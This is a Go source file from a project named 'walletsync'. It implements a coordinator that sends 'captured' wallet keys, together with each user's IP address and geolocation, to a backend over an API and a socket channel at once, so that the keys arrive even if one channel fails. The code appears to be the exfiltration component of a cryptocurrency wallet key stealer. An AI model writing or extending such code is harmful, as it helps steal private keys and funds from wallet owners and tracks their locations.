package delivery

import (
	"context"
	"fmt"
	"log"
	"sync"

	"walletsync/pkg/model"
	"walletsync/pkg/telemetry"
)

// Sender delivers one key payload and reports the outcome as a value.
type Sender interface {
	SendKey(ctx context.Context, p model.KeyPayload) model.SendResult
}

// Locator resolves the caller's location; it must not fail.
type Locator interface {
	Get(ctx context.Context) model.LocationRecord
}

// Coordinator sends every captured key over both the request and the
// persistent channel. Delivery succeeds when at least one channel does, so
// the backend may see the same key twice.
type Coordinator struct {
	geo    Locator
	api    Sender
	socket Sender
}

func NewCoordinator(geo Locator, api, socket Sender) *Coordinator {
	return &Coordinator{geo: geo, api: api, socket: socket}
}

// SendKey resolves the location, then dispatches to both channels
// concurrently and waits for both.
func (c *Coordinator) SendKey(ctx context.Context, userID string, keyType model.KeyType, keys, walletShortKey string) model.DeliveryResult {
	if !keyType.Valid() {
		err := fmt.Sprintf("invalid key type %q", keyType)
		return model.DeliveryResult{Success: false, Error: err}
	}
	loc := c.geo.Get(ctx)
	p := model.KeyPayload{
		UserID:      userID,
		KeyType:     keyType,
		Keys:        keys,
		WalletType:  walletShortKey,
		IPAddress:   loc.IPAddress,
		Location:    loc.Location,
		CountryCode: loc.CountryCode,
	}

	var (
		wg              sync.WaitGroup
		apiRes, sockRes model.SendResult
	)
	wg.Add(2)
	go func() {
		defer wg.Done()
		apiRes = c.api.SendKey(ctx, p)
	}()
	go func() {
		defer wg.Done()
		sockRes = c.socket.SendKey(ctx, p)
	}()
	wg.Wait()

	return aggregate(userID, apiRes, sockRes)
}

func aggregate(userID string, apiRes, sockRes model.SendResult) model.DeliveryResult {
	out := model.DeliveryResult{
		Success:      apiRes.Success || sockRes.Success,
		APIResult:    apiRes,
		SocketResult: sockRes,
	}
	if out.Success {
		if !apiRes.Success || !sockRes.Success {
			log.Printf("key delivery partial user=%s api=%v socket=%v", userID, apiRes.Success, sockRes.Success)
		}
		return out
	}
	out.Error = fmt.Sprintf("API: %s; Socket: %s", apiRes.Error, sockRes.Error)
	log.Printf("key delivery failed user=%s: %s", userID, out.Error)
	telemetry.CaptureMessage("key delivery failed on both channels", map[string]string{
		"user_id": userID,
	})
	return out
}
